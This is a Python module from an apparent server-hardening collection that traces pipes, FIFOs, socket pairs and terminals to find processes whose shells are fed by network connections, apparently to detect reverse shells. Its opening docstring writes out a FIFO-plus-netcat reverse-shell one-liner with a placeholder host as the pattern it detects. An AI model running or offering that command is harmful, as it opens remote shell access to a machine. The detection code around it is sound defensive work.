# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What processes talk to each other by: pipes, FIFOs, pairs of Unix sockets, pseudo-terminals (pipe(7), pty(7)).

Who feeds one, and to whom its output goes: "mkfifo f; sh -i <f 2>&1 | nc HOST PORT >f" is a shell on a connection, with
any number of programs in between.
"""

from __future__ import annotations

import typing as t

from ansible_collections.bulwark.servers.plugins.module_utils._net_sockets import Socket
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity import socket_pairs
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity.socket_pairs import Half
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity.surroundings import Surroundings
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.model import OpenFile, Process
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.view import Host

_KEY = "streams"
_PIPE, _SOCKET = b"pipe:[", b"socket:["
_FOLLOWED = (_PIPE, _SOCKET, b"/")
# Of a shell's neighbours; a whole host's pipes are not followed.
_MOST_PROCESSES = 200
# Each takes less than a millisecond.
_MOST_NETWORKS = 1000
# Of what ``Surroundings.access`` says.
_READS, _WRITES = 0, 1


class End(t.NamedTuple):
    """A process that has a connection, at the end of some streams.

    descriptor: by which it has the last stream. named: whether one of them is a FIFO with a name. peer: address, port.
    """

    process: Process
    descriptor: int
    named: bool
    peer: tuple[str, int]


class Streams:
    """Finds what is connected by streams.

    Each descriptor is an end, and leads to another: pipes and FIFOs to all that have them open, a socket to its peer, a
    terminal to who has its master, and that to all that have the terminal.
    """

    def __init__(self, host: Host, around: Surroundings) -> None:
        self._host = host
        self._around = around
        self._unnamed: dict[bytes, list[tuple[Process, OpenFile]]] = {}
        self._named: dict[bytes, list[tuple[Process, OpenFile]]] | None = None
        self._halves: dict[int, Half] | None = None
        self._are_all_told = True
        # Processes, by pid, of whose streams not all were followed: somebody may have started very many.
        self.unfollowed: set[int] = set()
        # What was asked of descriptors: every shell of a program that started many has all of their pipes around it.
        self._access: dict[tuple[int, OpenFile], tuple[bool, bool]] = {}
        for process in host.processes.values():
            for file in process.files:
                if file.target.startswith((_PIPE, _SOCKET)):
                    self._unnamed.setdefault(file.target, []).append((process, file))

    def is_stream(self, process: Process, file: OpenFile) -> bool:
        """Say whether a descriptor is of a pipe, or of a FIFO that has, or had, a name."""
        opposite = self._opposite(process, file)
        return opposite is not None and opposite.startswith((_PIPE, b"fifo:"))

    def is_unknown(self, process: Process, file: OpenFile) -> bool:
        """Say whether nobody told what a socket leads to that is not one of a network."""
        inodes = (one.inode for one in self._host.sockets_of(process))
        if not file.target.startswith(_SOCKET) or file.target in {b"%s%d]" % (_SOCKET, one) for one in inodes}:
            return False
        return self._opposite(process, file) is None and not self._are_all_told

    def _networks(self) -> list[int]:
        """Return a process of each network namespace but its own."""
        guides = {one.namespaces["net"]: one.pid for one in self._host.processes.values() if "net" in one.namespaces}
        guides.pop(self._around.network_namespace, None)
        return list(guides.values())[:_MOST_NETWORKS]

    def feeding(self, process: Process, file: OpenFile, stops: t.Callable[[Process], bool]) -> list[End]:
        """Return who has a connection and feeds a stream that a process reads.

        stops: says of which processes nothing is followed, as they are known to ask who is there.
        """
        return self._walk(process, file, _WRITES, _READS, stops)

    def fed(self, process: Process, file: OpenFile, stops: t.Callable[[Process], bool]) -> list[End]:
        """Return who has a connection and reads a stream that a process writes."""
        return self._walk(process, file, _READS, _WRITES, stops)

    def _walk(
        self, process: Process, file: OpenFile, near: int, far: int, stops: t.Callable[[Process], bool]
    ) -> list[End]:
        """Follow streams. near: what others do with a stream that leads to the process. far: with those behind it."""
        found: list[End] = []
        seen = {process.pid}
        followed: set[bytes] = set()
        waiting = [(process, file, False)]
        while waiting and len(seen) < _MOST_PROCESSES and self._host.seconds_left() > 0:
            one, through, named = waiting.pop(0)
            opposite = self._opposite(one, through)
            if opposite is None or opposite in followed:
                continue
            followed.add(opposite)
            named = named or opposite.startswith(b"fifo:")
            for other, end in self._ends(opposite):
                if other.pid in seen or not self._can(other, end)[near]:
                    continue
                seen.add(other.pid)
                if stops(other):
                    continue
                peers = [socket.remote for socket in self._host.sockets_of(other) if is_connection(socket)]
                if peers and peers[0] is not None:
                    found.append(End(other, end.descriptor, named, peers[0]))
                waiting.extend(
                    (other, behind, named)
                    for behind in other.files
                    if behind.target.startswith(_FOLLOWED) and self._can(other, behind)[far]
                )
        if waiting:
            self.unfollowed.add(process.pid)
        return found

    def _can(self, process: Process, file: OpenFile) -> tuple[bool, bool]:
        """Return whether a process can read and write a descriptor that it had when the scan began."""
        asked = process.pid, file
        if asked not in self._access:
            reads, writes = self._around.access(process.pid, file.descriptor)
            half = self._half(file) if file.target.startswith(_SOCKET) else None
            if half is not None:
                # The journal has a socket to each service, by which it sends nothing.
                reads, writes = reads and half.receives, writes and half.sends
            self._access[asked] = reads, writes
        return self._access[asked]

    def _half(self, file: OpenFile) -> Half | None:
        """Return what the kernel tells of a socket, where it is one of a connected pair."""
        if self._halves is None:
            self._halves, self._are_all_told = socket_pairs.halves(self._networks())
        return self._halves.get(int(file.target[len(_SOCKET) : -1]))

    def _opposite(self, process: Process, file: OpenFile) -> bytes | None:
        """Return what tells the end that a descriptor leads to from others; None where it is of no stream."""
        if file.target.startswith(_PIPE):
            return file.target
        if file.target.startswith(_SOCKET):
            half = self._half(file)
            return b"%s%d]" % (_SOCKET, half.peer) if half is not None and half.peer else None
        ends = self._around.stream(process, file) if file.target.startswith(b"/") else None
        return ends[1] if ends is not None else None

    def _ends(self, end: bytes) -> list[tuple[Process, OpenFile]]:
        if end.startswith((_PIPE, _SOCKET)):
            return self._unnamed.get(end, [])
        if self._named is None:
            # A FIFO has one name for each of its links, and in each mount namespace: all that is open is asked.
            self._named = {}
            for process in self._host.processes.values():
                for file in process.files:
                    ends = self._around.stream(process, file) if file.target.startswith(b"/") else None
                    if ends is not None:
                        self._named.setdefault(ends[0], []).append((process, file))
        return self._named.get(end, [])


def is_connection(socket: Socket) -> bool:
    """Say whether a socket leads to a peer in a network."""
    return socket.remote is not None and socket.protocol.startswith(("tcp", "udp", "sctp"))


def of(host: Host, around: Surroundings) -> Streams:
    """Return them, which are the same for a whole scan."""
    found: Streams = host.remember(_KEY, lambda: Streams(host, around))
    return found
